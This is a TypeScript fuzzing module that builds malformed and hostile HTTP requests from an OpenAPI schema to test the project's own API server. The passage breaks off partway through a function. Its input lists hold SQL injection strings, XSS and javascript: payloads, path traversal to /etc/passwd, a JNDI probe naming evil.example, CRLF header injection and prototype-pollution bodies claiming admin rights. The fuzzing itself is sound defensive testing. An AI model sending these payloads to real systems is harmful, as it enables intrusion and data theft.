/**
 * HTTP fuzzing shared by the campaign (`npm run fuzz`, bench/fuzz.ts) and its seeded slice in `npm test`
 * (server/src/http/fuzz.test.ts): fast-check arbitraries derived from the OpenAPI document (whose
 * schemas are the TypeBox schemas of shared/), filled with the world's real ids, hostile strings,
 * prototype keys, broken JSON, wrong content types and every actor; a tally of what came back.
 *
 * A generated request is plain data (`FuzzRequest`); `wireRequest` turns it into method, raw path,
 * headers and body bytes for whatever sends it (node:http in the campaign, `app.inject` in the test).
 */
import fc from 'fast-check';
import { ACTORS, type Actor, type FuzzTargets, type World } from './fuzz-world.ts';

// ---------------------------------------------------------------------------------------------------
// OpenAPI

export interface JsonSchema {
  type?: string | string[];
  properties?: Record<string, JsonSchema>;
  required?: string[];
  additionalProperties?: boolean | JsonSchema;
  items?: JsonSchema;
  minItems?: number;
  maxItems?: number;
  uniqueItems?: boolean;
  minLength?: number;
  maxLength?: number;
  pattern?: string;
  format?: string;
  enum?: unknown[];
  const?: unknown;
  anyOf?: JsonSchema[];
  oneOf?: JsonSchema[];
  allOf?: JsonSchema[];
  minimum?: number;
  maximum?: number;
  exclusiveMinimum?: number;
  exclusiveMaximum?: number;
  minProperties?: number;
  maxProperties?: number;
  description?: string;
}

interface OpenApiParameter {
  in: 'path' | 'query' | 'header' | 'cookie';
  name: string;
  required?: boolean;
  schema: JsonSchema;
}

interface OpenApiOperation {
  parameters?: OpenApiParameter[];
  requestBody?: { required?: boolean; content?: Record<string, { schema?: JsonSchema }> };
}

export interface OpenApiDocument {
  paths: Record<string, Record<string, OpenApiOperation>>;
}

export interface Operation {
  /** e.g. `PUT /api/ballots/{id}/vote` */
  name: string;
  method: string;
  path: string;
  pathParams: OpenApiParameter[];
  queryParams: OpenApiParameter[];
  body: JsonSchema | null;
}

const METHODS = ['get', 'post', 'put', 'patch', 'delete'];

export function operationsOf(document: OpenApiDocument): Operation[] {
  const operations: Operation[] = [];
  for (const [path, item] of Object.entries(document.paths)) {
    for (const [method, operation] of Object.entries(item)) {
      if (!METHODS.includes(method)) continue;
      const parameters = operation.parameters ?? [];
      operations.push({
        name: `${method.toUpperCase()} ${path}`,
        method: method.toUpperCase(),
        path,
        pathParams: parameters.filter((p) => p.in === 'path'),
        queryParams: parameters.filter((p) => p.in === 'query'),
        body: operation.requestBody?.content?.['application/json']?.schema ?? null,
      });
    }
  }
  return operations;
}

// ---------------------------------------------------------------------------------------------------
// Hostile values

/** Raw JSON text placed as is into a serialized body (numbers JSON.stringify would not write, deep nesting). */
export class RawJson {
  constructor(readonly text: string) {}
}

let bigCache: Map<string, string> | null = null;
/** Large strings are built once and shared (generation must not spend its time on them). */
function big(char: string, length: number): string {
  bigCache ??= new Map();
  const key = `${char}:${length}`;
  let value = bigCache.get(key);
  if (value === undefined) {
    value = char.repeat(Math.ceil(length / char.length)).slice(0, length);
    bigCache.set(key, value);
  }
  return value;
}

export const PROTOTYPE_KEYS = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf', '__defineGetter__', 'isAdmin', 'role'];

export const HOSTILE_STRINGS: readonly string[] = [
  '',
  ' ',
  '\t',
  '\n',
  '\r\n',
  '\u0000',
  'a\u0000b',
  '\ud800',
  '\udfff',
  'x\ud83dy',
  '\u202eevil\u202c',
  '\u200b',
  '\u200d\u200c',
  '\ufeff',
  '\u2028\u2029',
  '\u061c\u200f\u202b',
  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍',
  'مرحبا بالعالم',
  'שלום\u200e',
  '👩‍👩‍👧‍👦',
  '🏳️‍🌈',
  '\u{10FFFF}',
  '\uFFFF\uFFFE',
  ...PROTOTYPE_KEYS,
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '%2e%2e%2f',
  '%00',
  '%',
  '%zz',
  '%ED%A0%80',
  '%C0%AF',
  '%FF',
  "' OR '1'='1",
  "'; drop table users; --",
  '1; select pg_sleep(10)',
  '$$; select 1; $$',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '[x](javascript:alert(1))',
  '![x](http://evil.example/x.png)',
  '<!--',
  ']]>',
  '{{7*7}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template-injection probe, meant literally
  '${7*7}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log-injection probe, meant literally
  '${jndi:ldap://evil.example/a}',
  'null',
  'undefined',
  'true',
  'NaN',
  'Infinity',
  '-1',
  '0',
  '1e309',
  '-0',
  '0x10',
  '[]',
  '{}',
  '[object Object]',
  '\\',
  '"',
  "'",
  '`',
  '/',
  '?',
  '#',
  '&',
  '=',
  ';',
  'CON',
  '..',
  '.',
  'a@',
  '@',
  ' user@example.org ',
  'USER@EXAMPLE.ORG',
  '00000000-0000-0000-0000-000000000000',
  'ffffffff-ffff-ffff-ffff-ffffffffffff',
  'FFFFFFFF-FFFF-4FFF-BFFF-FFFFFFFFFFFF',
  '{00000000-0000-0000-0000-000000000000}',
  '00000000000000000000000000000000',
  '1970-01-01T00:00:00Z',
  '9999-12-31T23:59:59Z',
  '0000-00-00T00:00:00Z',
  '2026-02-30T25:61:61Z',
  '+275760-09-13T00:00:00.000Z',
  '-271821-04-20T00:00:00.000Z',
  'a'.repeat(64),
  'a'.repeat(65),
  'a'.repeat(201),
  'a'.repeat(255),
  'x'.repeat(4097),
];

/** Long inputs aimed at validation patterns and limits (each is built once). */
function longStrings(maxLength: number | undefined): string[] {
  const out = [`${big('a', 50_000)}!`, big(' ', 50_000), `a@${big('.', 50_000)}@`, `${big('a', 30_000)}\u0000`, big('\ud800', 20_000), big('💥', 25_000)];
  if (maxLength !== undefined) out.push(big('m', maxLength), big('m', maxLength + 1), big('é', maxLength + 1));
  return out;
}

const EDGE_NUMBERS: unknown[] = [
  0,
  -0,
  -1,
  1,
  0.5,
  1.0000001,
  -0.0000001,
  2 ** 31 - 1,
  2 ** 31,
  2 ** 32,
  2 ** 53 - 1,
  2 ** 53 + 2,
  -(2 ** 53),
  1e308,
  -1e308,
  5e-324,
  new RawJson('1e999'),
  new RawJson('-1e999'),
  new RawJson('NaN'),
  new RawJson('Infinity'),
  new RawJson('0x10'),
  new RawJson('01'),
  new RawJson('1.'),
  new RawJson('123456789012345678901234567890'),
];

const WORDS = [
  'open',
  'source',
  'AI',
  'data',
  'weights',
  'freedom',
  'study',
  'modify',
  'share',
  'ünïcödé',
  'Ωμέγα',
  'データ',
  '🙂',
  '**bold**',
  '_it_',
  '`code`',
];

const hostileString = fc.constantFrom(...HOSTILE_STRINGS);
const wordString = fc.array(fc.constantFrom(...WORDS), { minLength: 1, maxLength: 8 }).map((words) => words.join(' '));

function deepNesting(depth: number, kind: 'array' | 'object'): RawJson {
  return new RawJson(kind === 'array' ? big('[', depth) + big(']', depth) : `${big('{"a":', depth)}1${big('}', depth)}`);
}

// ---------------------------------------------------------------------------------------------------
// Valid-ish values from a schema

interface Context {
  targets: FuzzTargets;
}

const isoDate = fc.integer({ min: Date.UTC(1990, 0, 1), max: Date.UTC(2100, 0, 1) }).map((ms) => new Date(ms).toISOString());
const futureDate = fc.integer({ min: 60_000, max: 90 * 24 * 3600_000 }).map((ms) => new Date(Date.now() + ms).toISOString());

function pool<T>(values: T[], fallback: fc.Arbitrary<T>): fc.Arbitrary<T> {
  return values.length === 0 ? fallback : fc.oneof({ weight: 4, arbitrary: fc.constantFrom(...values) }, { weight: 1, arbitrary: fallback });
}

function uuidFor(name: string, ctx: Context): fc.Arbitrary<string> {
  const t = ctx.targets;
  const byName: Record<string, string[]> = {
    clauseId: t.clauseIds,
    clause: t.clauseIds,
    amendmentId: t.amendmentIds,
    amendmentIds: t.amendmentIds,
    amendment: t.amendmentIds,
    replyTo: t.commentIds,
    mentions: t.userIds,
    userId: t.userIds,
  };
  const all = [...t.definitionIds, ...t.clauseIds, ...t.threadIds, ...t.commentIds, ...t.amendmentIds, ...t.ballotIds, ...t.userIds];
  return pool(byName[name] ?? all, fc.uuid());
}

function stringFor(schema: JsonSchema, name: string, ctx: Context): fc.Arbitrary<string> {
  if (schema.format === 'uuid') return uuidFor(name, ctx);
  if (schema.format === 'date-time') return fc.oneof(futureDate, isoDate);
  const min = schema.minLength ?? 0;
  const max = Math.min(schema.maxLength ?? 200, 200);
  const withinLength = (arb: fc.Arbitrary<string>) =>
    arb.map((s) => (s.length > (schema.maxLength ?? Number.POSITIVE_INFINITY) ? s.slice(0, schema.maxLength) : s.padEnd(min, 'x')));
  switch (name) {
    case 'email':
      return pool(ctx.targets.emails, fc.emailAddress());
    case 'slug':
      return fc.oneof(fc.stringMatching(/^[a-z0-9][a-z0-9-]{1,12}[a-z0-9]$/), fc.constantFrom(...ctx.targets.slugs, 'alpha', 'beta'));
    case 'label':
    case 'version':
    case 'from':
    case 'to':
      return pool(ctx.targets.versionLabels, fc.stringMatching(/^[0-9A-Za-z][0-9A-Za-z._+-]{0,10}[0-9A-Za-z]$/));
    case 'position':
      return pool(ctx.targets.positions, fc.stringMatching(/^[a-z0-9_-]{1,20}$/));
    case 'password':
    case 'currentPassword':
    case 'newPassword':
      return fc.string({ minLength: 10, maxLength: 40 });
    case 'start':
    case 'end':
      return fc.base64String({ maxLength: 64 });
  }
  return withinLength(
    fc.oneof({ weight: 3, arbitrary: wordString }, { weight: 2, arbitrary: fc.string({ minLength: min, maxLength: max, unit: 'grapheme' }) }),
  );
}

/** ProseMirror JSON for a clause body: mostly valid, sometimes what the clause schema must refuse. */
function proseMirrorDoc(): fc.Arbitrary<unknown> {
  const text = fc.oneof(wordString, fc.string({ minLength: 1, maxLength: 30, unit: 'grapheme' }));
  const mark = fc.oneof(
    fc.constant({ type: 'bold' }),
    fc.constant({ type: 'italic' }),
    fc.constant({ type: 'code' }),
    fc.constantFrom('https://example.org', 'mailto:a@example.org', 'javascript:alert(1)', 'data:text/html,x', '//evil.example', 'http://', '').map((href) => ({
      type: 'link',
      attrs: { href },
    })),
    fc.constantFrom('underline', 'strike', 'textStyle', '__proto__', 'script').map((type) => ({ type })),
  );
  const textNode = fc.record({ type: fc.constant('text'), text, marks: fc.array(mark, { maxLength: 2 }) }, { requiredKeys: ['type', 'text'] });
  const paragraph = fc
    .array(fc.oneof({ weight: 5, arbitrary: textNode }, { weight: 1, arbitrary: fc.constant({ type: 'hardBreak' }) }), { maxLength: 4 })
    .map((content) => ({
      type: 'paragraph',
      content,
    }));
  const list = fc.tuple(fc.constantFrom('bulletList', 'orderedList'), fc.array(paragraph, { minLength: 1, maxLength: 3 })).map(([type, paragraphs]) => ({
    type,
    content: paragraphs.map((p) => ({ type: 'listItem', content: [p] })),
  }));
  const hostileNode = fc.constantFrom<unknown>(
    { type: 'script', content: [{ type: 'text', text: 'alert(1)' }] },
    { type: 'heading', attrs: { level: 1 }, content: [{ type: 'text', text: 'h' }] },
    { type: 'image', attrs: { src: 'http://evil.example/x.png' } },
    { type: 'text', text: 'text at the top' },
    { type: 'paragraph', content: [{ type: 'text', text: '' }] },
    { type: 'paragraph', content: [{ type: 'text', text: 'nul \u0000 byte' }] },
    { type: 'paragraph', content: 'not an array' },
    { type: 'paragraph', content: [{ type: 'paragraph' }] },
    { type: 'orderedList', attrs: { start: 'x' }, content: [] },
    { type: 'orderedList', attrs: { start: 1e308 }, content: [{ type: 'listItem', content: [{ type: 'paragraph' }] }] },
    { type: 'paragraph', attrs: { onclick: 'alert(1)' } },
    { type: 'hardBreak', content: [{ type: 'text', text: 'x' }] },
    { type: '__proto__' },
    { type: 'constructor', content: [] },
    { type: 'paragraph', content: [{ type: 'text', text: 'x', marks: [{ type: 'link', attrs: { href: 'x'.repeat(5000) } }] }] },
    null,
    42,
    'paragraph',
  );
  const nested = fc.constantFrom(5, 31, 33, 200, 3000).map((depth) => {
    let node: unknown = { type: 'paragraph', content: [{ type: 'text', text: `depth ${depth}` }] };
    for (let i = 0; i < depth; i++) node = { type: 'bulletList', content: [{ type: 'listItem', content: [node] }] };
    return node;
  });
  return fc.oneof(
    { weight: 6, arbitrary: fc.array(fc.oneof(paragraph, list), { minLength: 0, maxLength: 4 }).map((content) => ({ type: 'doc', content })) },
    { weight: 2, arbitrary: fc.array(fc.oneof(paragraph, hostileNode), { minLength: 1, maxLength: 3 }).map((content) => ({ type: 'doc', content })) },
    { weight: 1, arbitrary: nested.map((node) => ({ type: 'doc', content: [node] })) },
    {
      weight: 1,
      arbitrary: fc.constantFrom<unknown>({}, { type: 'paragraph' }, { type: 'doc' }, { type: 'doc', content: {} }, { type: 'doc', content: null }),
    },
  );
}

export function validish(schema: JsonSchema, name: string, ctx: Context, depth = 0): fc.Arbitrary<unknown> {
  if (schema.const !== undefined) return fc.constant(schema.const);
  if (schema.enum) return fc.constantFrom(...schema.enum);
  const alternatives = schema.anyOf ?? schema.oneOf;
  if (alternatives) return fc.oneof(...alternatives.map((alternative) => validish(alternative, name, ctx, depth)));
  if (schema.allOf) {
    const merged: JsonSchema = { type: 'object', properties: {}, required: [] };
    for (const part of schema.allOf) {
      Object.assign(merged.properties!, part.properties);
      merged.required!.push(...(part.required ?? []));
    }
    return validish(merged, name, ctx, depth);
  }
  if (name === 'content' && (schema.type === 'object' || schema.description?.includes('ProseMirror'))) return proseMirrorDoc();
  const type = Array.isArray(schema.type) ? schema.type[0] : schema.type;
  switch (type) {
    case 'string':
      return stringFor(schema, name, ctx);
    case 'integer': {
      if (name === 'ids' || name === 'before' || name === 'cursor')
        return pool(ctx.targets.notificationIds, fc.integer({ min: schema.minimum ?? 0, max: 10_000 }));
      return fc.integer({ min: schema.minimum ?? -1000, max: schema.maximum ?? 1000 });
    }
    case 'number':
      return fc.oneof(
        fc.double({ min: schema.minimum ?? -1e6, max: schema.maximum ?? 1e6, noNaN: true, noDefaultInfinity: true }),
        fc.constantFrom(schema.minimum ?? 0, schema.maximum ?? 1),
      );
    case 'boolean':
      return fc.boolean();
    case 'null':
      return fc.constant(null);
    case 'array': {
      const items = schema.items ?? {};
      const minLength = schema.minItems ?? 0;
      const maxLength = Math.max(minLength, Math.min(schema.maxItems ?? 4, 4));
      const item = validish(items, name, ctx, depth + 1);
      return schema.uniqueItems
        ? fc.uniqueArray(item, { minLength, maxLength, selector: (value) => JSON.stringify(value) })
        : fc.array(item, { minLength, maxLength });
    }
    case 'object': {
      const properties = schema.properties ?? {};
      const keys = Object.keys(properties);
      if (keys.length === 0) return fc.dictionary(fc.string({ maxLength: 8 }), fc.oneof(fc.string({ maxLength: 8 }), fc.integer()), { maxKeys: 3 });
      const record: Record<string, fc.Arbitrary<unknown>> = {};
      for (const key of keys) record[key] = validish(properties[key]!, key, ctx, depth + 1);
      const required = schema.required ?? [];
      // minProperties without required keys (partial updates): one of the keys is always there.
      if ((schema.minProperties ?? 0) > 0 && required.length === 0) return fc.oneof(...keys.map((key) => fc.record(record, { requiredKeys: [key] })));
      return fc.record(record, { requiredKeys: required });
    }
  }
  return fc.oneof(fc.string({ maxLength: 10 }), fc.integer(), fc.boolean(), fc.constant(null));
}

// ---------------------------------------------------------------------------------------------------
// Broken values: a valid-ish value with one node changed

type JsonPath = (string | number)[];

function pathsOf(value: unknown, limit = 60): JsonPath[] {
  const out: JsonPath[] = [[]];
  const walk = (node: unknown, path: JsonPath) => {
    if (out.length >= limit) return;
    if (Array.isArray(node)) {
      node.forEach((child, index) => {
        out.push([...path, index]);
        walk(child, [...path, index]);
      });
    } else if (node !== null && typeof node === 'object' && !(node instanceof RawJson)) {
      for (const key of Object.keys(node)) {
        out.push([...path, key]);
        walk((node as Record<string, unknown>)[key], [...path, key]);
      }
    }
  };
  walk(value, []);
  return out;
}

/** A shallow copy of an array or object (own keys, `__proto__` included). */
function shallow(value: unknown): unknown {
  if (Array.isArray(value)) return [...value];
  if (value !== null && typeof value === 'object' && !(value instanceof RawJson)) {
    const out: Record<string, unknown> = {};
    for (const key of Object.keys(value)) defineKey(out, key, (value as Record<string, unknown>)[key]);
    return out;
  }
  return value;
}

/** Sets an own, enumerable property, even one named `__proto__` (so it is serialized like any key). */
function defineKey(target: Record<string, unknown>, key: string, value: unknown): void {
  Object.defineProperty(target, key, { value, enumerable: true, writable: true, configurable: true });
}

/** Copies the containers along `path` (the rest is shared, never mutated) and changes the node at its end. */
function changeAt(value: unknown, path: JsonPath, change: (parent: Record<string | number, unknown>, last: string | number) => void): unknown {
  const root = shallow(value) as Record<string | number, unknown>;
  let parent = root;
  for (const step of path.slice(0, -1)) {
    const child = shallow(parent[step]) as Record<string | number, unknown>;
    if (Array.isArray(parent)) parent[step as number] = child;
    else defineKey(parent as Record<string, unknown>, String(step), child);
    parent = child;
  }
  change(parent, path[path.length - 1]!);
  return root;
}

function replaceAt(value: unknown, path: JsonPath, replacement: (old: unknown) => unknown): unknown {
  if (path.length === 0) return replacement(value);
  return changeAt(value, path, (parent, last) => {
    if (Array.isArray(parent)) parent[last as number] = replacement(parent[last as number]);
    else defineKey(parent as Record<string, unknown>, String(last), replacement(parent[last]));
  });
}

function removeAt(value: unknown, path: JsonPath): unknown {
  if (path.length === 0) return undefined;
  return changeAt(value, path, (parent, last) => {
    if (Array.isArray(parent)) parent.splice(last as number, 1);
    else delete parent[last];
  });
}

class Literal {
  constructor(readonly text: string) {}
}

/**
 * JSON text of a value, own `__proto__` keys and RawJson included; `undefined` members are left out.
 * Iterative: generated values nest thousands of levels deep.
 */
export function serialize(root: unknown): string {
  const out: string[] = [];
  const stack: unknown[] = [root];
  while (stack.length > 0) {
    const value = stack.pop();
    if (value instanceof Literal) out.push(value.text);
    else if (value instanceof RawJson) out.push(value.text);
    else if (value === undefined) out.push('null');
    else if (typeof value === 'number') out.push(Object.is(value, -0) ? '-0' : String(value));
    else if (typeof value !== 'object' || value === null) out.push(JSON.stringify(value));
    else if (Array.isArray(value)) {
      stack.push(new Literal(']'));
      for (let i = value.length - 1; i >= 0; i--) {
        stack.push(value[i]);
        if (i > 0) stack.push(new Literal(','));
      }
      stack.push(new Literal('['));
    } else {
      const keys = Object.keys(value).filter((key) => (value as Record<string, unknown>)[key] !== undefined);
      stack.push(new Literal('}'));
      for (let i = keys.length - 1; i >= 0; i--) {
        stack.push((value as Record<string, unknown>)[keys[i]!]);
        stack.push(new Literal(`${i > 0 ? ',' : ''}${JSON.stringify(keys[i])}:`));
      }
      stack.push(new Literal('{'));
    }
  }
  return out.join('');
}

const wrongTypeValue = fc.constantFrom<unknown>(
  null,
  true,
  false,
  0,
  -1,
  1.5,
  '',
  'x',
  [],
  [null],
  {},
  { a: 1 },
  [[[]]],
  '1',
  'true',
  new RawJson('{"__proto__":{"polluted":true}}'),
);

const protoValue = fc.constantFrom<unknown>(
  { polluted: true },
  { isAdmin: true, role: 'chair' },
  { prototype: { polluted: true } },
  { toString: 'x', valueOf: 1 },
  null,
  'x',
  1,
);

export interface BodySpec {
  variant: string;
  text: string | Buffer;
}

/** Bodies with one thing wrong (or the whole text broken), derived from valid-ish ones. */
function brokenBodies(schema: JsonSchema, ctx: Context): fc.Arbitrary<BodySpec> {
  const valid = validish(schema, '', ctx);
  const withPath = valid.chain((value) => {
    const paths = pathsOf(value);
    return fc.tuple(fc.constant(value), fc.constantFrom(...paths));
  });
  const json = (variant: string) => (value: unknown) => ({ variant, text: serialize(value) });
  const requiredKeys = schema.required ?? [];
  return fc.oneof(
    {
      weight: 4,
      arbitrary: valid.chain((value) =>
        requiredKeys.length === 0 || value === null || typeof value !== 'object'
          ? fc.constant(json('valid')(value))
          : fc.constantFrom(...requiredKeys).map((key) => json('missing-required')(removeAt(value, [key]))),
      ),
    },
    { weight: 3, arbitrary: withPath.map(([value, path]) => (path.length === 0 ? json('valid')(value) : json('missing-property')(removeAt(value, path)))) },
    {
      weight: 5,
      arbitrary: fc
        .tuple(withPath, fc.oneof(fc.constantFrom(...PROTOTYPE_KEYS), fc.string({ maxLength: 12 }), fc.constant('x'.repeat(300))), protoValue)
        .map(([[value, path], key, extra]) =>
          json('extra-property')(
            replaceAt(value, path, (node) => {
              if (node === null || typeof node !== 'object' || Array.isArray(node) || node instanceof RawJson) return node;
              const copy = shallow(node) as Record<string, unknown>;
              defineKey(copy, key, extra);
              return copy;
            }),
          ),
        ),
    },
    {
      weight: 2,
      arbitrary: valid.map((value) => {
        const prefix = '{"__proto__":{"polluted":true,"isAdmin":true},"constructor":{"prototype":{"polluted":true}},';
        const text = serialize(value);
        return { variant: 'prototype-pollution', text: text.startsWith('{') && text.length > 2 ? prefix + text.slice(1) : `${prefix}"x":1}` };
      }),
    },
    { weight: 5, arbitrary: fc.tuple(withPath, wrongTypeValue).map(([[value, path], wrong]) => json('wrong-type')(replaceAt(value, path, () => wrong))) },
    {
      weight: 6,
      arbitrary: fc.tuple(withPath, hostileString).map(([[value, path], hostile]) => json('hostile-string')(replaceAt(value, path, () => hostile))),
    },
    {
      weight: 3,
      arbitrary: fc.tuple(withPath, fc.nat(20)).map(([[value, path], pick]) => {
        const strings = longStrings(schema.properties?.[String(path[path.length - 1])]?.maxLength);
        return json('long-string')(replaceAt(value, path, () => strings[pick % strings.length]));
      }),
    },
    {
      weight: 3,
      arbitrary: fc
        .tuple(withPath, fc.constantFrom(...EDGE_NUMBERS))
        .map(([[value, path], number]) => json('edge-number')(replaceAt(value, path, () => number))),
    },
    {
      weight: 2,
      arbitrary: fc
        .tuple(withPath, fc.constantFrom(64, 1000, 10_000, 100_000), fc.constantFrom('array' as const, 'object' as const))
        .map(([[value, path], depth, kind]) => json('deep-nesting')(replaceAt(value, path, () => deepNesting(depth, kind)))),
    },
    {
      weight: 1,
      arbitrary: fc.constantFrom(100, 10_000).map((count) => {
        const parts: string[] = [];
        for (let i = 0; i < count; i++) parts.push(`"k${i}":${i}`);
        return { variant: 'many-keys', text: `{${parts.join(',')}}` };
      }),
    },
    {
      weight: 2,
      arbitrary: fc.constantFrom('null', '[]', '"x"', '42', 'true', '[{}]', '{}', '""', '-0', '1e999').map((text) => ({ variant: 'root-type', text })),
    },
    {
      weight: 4,
      arbitrary: fc
        .tuple(
          valid,
          fc.constantFrom(
            'truncate',
            'trailing-comma',
            'single-quotes',
            'comment',
            'bom',
            'two-documents',
            'duplicate-keys',
            'nul-byte',
            'control-char',
            'empty',
            'whitespace',
            'unterminated-string',
            'lone-surrogate-escape',
            'bad-escape',
          ),
          fc.nat(),
        )
        .map(([value, how, n]) => {
          const text = serialize(value);
          const broken: Record<string, string> = {
            truncate: text.slice(0, Math.max(0, n % Math.max(1, text.length))),
            'trailing-comma': text.replace(/}$/, ',}'),
            'single-quotes': text.replaceAll('"', "'"),
            comment: `/* c */${text}`,
            bom: `\ufeff${text}`,
            'two-documents': `${text}${text}`,
            'duplicate-keys': text.startsWith('{') && text.length > 2 ? `{"a":1,"a":2,${text.slice(1)}` : '{"a":1,"a":2}',
            'nul-byte': `${text}\u0000`,
            'control-char': text.replace('"', '"\u0001'),
            empty: '',
            whitespace: ' \n\t ',
            'unterminated-string': '{"a":"',
            'lone-surrogate-escape': text.startsWith('{') && text.length > 2 ? `{"x":"\\ud800\\udc00\\udfff",${text.slice(1)}` : '"\\ud800"',
            'bad-escape': '{"a":"\\x41\\u12"}',
          };
          return { variant: `malformed-json:${how}`, text: broken[how]! };
        }),
    },
    {
      weight: 1,
      arbitrary: fc
        .constantFrom(
          Buffer.from([0x7b, 0x22, 0x61, 0x22, 0x3a, 0x22, 0xff, 0xfe, 0x22, 0x7d]),
          Buffer.from([0x7b, 0x22, 0x61, 0x22, 0x3a, 0x22, 0xc0, 0xaf, 0xed, 0xa0, 0x80, 0x22, 0x7d]),
          Buffer.from('{"a":"b"}', 'utf16le'),
          Buffer.from([0xef, 0xbb, 0xbf, 0x7b, 0x7d]),
        )
        .map((text) => ({ variant: 'invalid-utf8', text })),
    },
    {
      weight: 1,
      arbitrary: fc
        .constantFrom(1024 * 1024 - 64, 1024 * 1024 + 1, 1_500_000)
        .map((size) => ({ variant: `body-${size}`, text: `{"x":"${big('b', size - 8)}"}` })),
    },
  );
}

// ---------------------------------------------------------------------------------------------------
// Requests

export type OriginMode = 'same' | 'none' | 'foreign' | 'null';

export interface FuzzRequest {
  operation: string;
  actor: Actor;
  method: string;
  /** Raw request target: path and query, already encoded as it goes on the wire. */
  path: string;
  origin: OriginMode;
  contentType: string | null;
  body: string | Buffer | null;
  variant: string;
}

/** Percent-encodes a path segment; lone surrogates become the (invalid) UTF-8 bytes they would have. */
export function encodeSegment(value: string): string {
  let out = '';
  for (const char of value) {
    const code = char.codePointAt(0)!;
    if (code >= 0xd800 && code <= 0xdfff) {
      out += [0xe0 | (code >> 12), 0x80 | ((code >> 6) & 63), 0x80 | (code & 63)].map((b) => `%${b.toString(16).toUpperCase()}`).join('');
    } else out += encodeURIComponent(char);
  }
  return out;
}

/** Characters node:http accepts unescaped in a request target. */
const RAW_SAFE = /^[\x21-\x7e]*$/;

function pathValue(param: OpenApiParameter, operation: Operation, ctx: Context, hostile: boolean): fc.Arbitrary<string> {
  const t = ctx.targets;
  const allIds = [...t.definitionIds, ...t.clauseIds, ...t.threadIds, ...t.commentIds, ...t.amendmentIds, ...t.ballotIds, ...t.userIds];
  let real: string[];
  switch (param.name) {
    case 'slug':
      real = t.slugs;
      break;
    case 'userId':
      real = t.userIds;
      break;
    case 'clauseId':
      real = t.clauseIds;
      break;
    case 'label':
      real = t.versionLabels;
      break;
    case 'emoji':
      real = ['👍', '👎', '❤️', '🎉', '😕', '👀'];
      break;
    default: {
      const base = operation.path.split('/')[2];
      real =
        base === 'definitions'
          ? t.definitionIds
          : base === 'amendments'
            ? t.amendmentIds
            : base === 'threads'
              ? t.threadIds
              : base === 'comments'
                ? t.commentIds
                : base === 'ballots'
                  ? t.ballotIds
                  : allIds;
    }
  }
  const encoded = (arb: fc.Arbitrary<string>) => arb.map(encodeSegment);
  if (!hostile) {
    return fc.oneof(
      { weight: 14, arbitrary: real.length > 0 ? encoded(fc.constantFrom(...real)) : encoded(fc.uuid()) },
      { weight: 1, arbitrary: encoded(fc.constantFrom(...allIds, ...t.slugs)) },
      { weight: 1, arbitrary: fc.uuid() },
    );
  }
  return fc.oneof(
    { weight: 4, arbitrary: encoded(hostileString) },
    {
      weight: 2,
      arbitrary: fc.constantFrom(
        '%',
        '%zz',
        '%00',
        '%ED%A0%80',
        '%C0%AF',
        '%FF%FE',
        '..',
        '.',
        '%2e%2e',
        '..%2f..%2f..%2fetc%2fpasswd',
        '%252e',
        '~',
        "'",
        '*',
        '%0d%0aX-Injected:%201',
      ),
    },
    { weight: 1, arbitrary: fc.constantFrom(199, 200, 201, 1000, 5000).map((length) => big('a', length)) },
    { weight: 1, arbitrary: fc.uuid().map((id) => id.toUpperCase()) },
  );
}

function validQuery(operation: Operation, ctx: Context): fc.Arbitrary<string[]> {
  return fc
    .tuple(
      ...operation.queryParams.map((param) =>
        fc.oneof(
          { weight: param.required ? 0 : 1, arbitrary: fc.constant<string[]>([]) },
          {
            weight: 2,
            arbitrary: validish(param.schema, param.name, ctx).map((value) => [
              `${param.name}=${encodeSegment(typeof value === 'string' ? value : (JSON.stringify(value) ?? ''))}`,
            ]),
          },
        ),
      ),
    )
    .map((parts) => parts.flat());
}

function brokenQuery(operation: Operation, ctx: Context): fc.Arbitrary<string[]> {
  const extra = fc
    .constantFrom(
      '__proto__=x',
      '__proto__[polluted]=1',
      'constructor[prototype][polluted]=1',
      'a[b][c][d]=1',
      `x=${big('q', 5000)}`,
      '&&&',
      '=',
      '%=%',
      'limit=1&limit=2&limit=3',
    )
    .map((part) => [part]);
  if (operation.queryParams.length === 0) return extra;
  const broken = fc.constantFrom(...operation.queryParams).chain((param) =>
    fc.oneof(
      hostileString.map((value) => [`${param.name}=${encodeSegment(value)}`]),
      fc.constant([`${param.name}=`, `${param.name}=1`]),
      fc.constantFrom(`${param.name}`, `${param.name}=`, `${param.name}[]=1`, `${param.name}[a]=1`, `${param.name}=${big('9', 400)}`).map((part) => [part]),
      fc.constantFrom(...EDGE_NUMBERS.map((n) => (n instanceof RawJson ? n.text : String(n)))).map((n) => [`${param.name}=${n}`]),
      fc.constant([]),
    ),
  );
  return fc
    .tuple(validQuery(operation, ctx), fc.oneof({ weight: 4, arbitrary: broken }, { weight: 1, arbitrary: extra }))
    .map(([valid, bad]) => [...valid, ...bad]);
}

const CONTENT_TYPES = [
  'application/json; charset=utf-8',
  'text/plain',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  'application/xml',
  'APPLICATION/JSON',
  'application/json; charset=utf-16',
  'application/vnd.api+json',
  'application/jsonx',
  'application/json, text/plain',
  '',
  '*/*',
];

type Focus = 'none' | 'path' | 'query' | 'body' | 'headers' | 'method';

/**
 * One request to an operation. Most requests break one thing only (the path, the query, the body, the
 * headers or the method) so that they reach the checks after the one they break; a third break none.
 */
function operationRequest(operation: Operation, ctx: Context): fc.Arbitrary<FuzzRequest> {
  const foci: { weight: number; arbitrary: fc.Arbitrary<Focus> }[] = [
    { weight: 35, arbitrary: fc.constant('none') },
    { weight: 8, arbitrary: fc.constant('headers') },
    { weight: 2, arbitrary: fc.constant('method') },
  ];
  if (operation.pathParams.length > 0) foci.push({ weight: 12, arbitrary: fc.constant('path') });
  if (operation.queryParams.length > 0 || operation.method === 'GET') foci.push({ weight: 10, arbitrary: fc.constant('query') });
  if (operation.body) foci.push({ weight: 35, arbitrary: fc.constant('body') });
  const unsafe = operation.method !== 'GET';
  const validBody = operation.body
    ? validish(operation.body, '', ctx).map((value): BodySpec | null => ({ variant: 'valid', text: serialize(value) }))
    : fc.constant(null);
  return fc.oneof(...foci).chain((focus) => {
    const path = fc
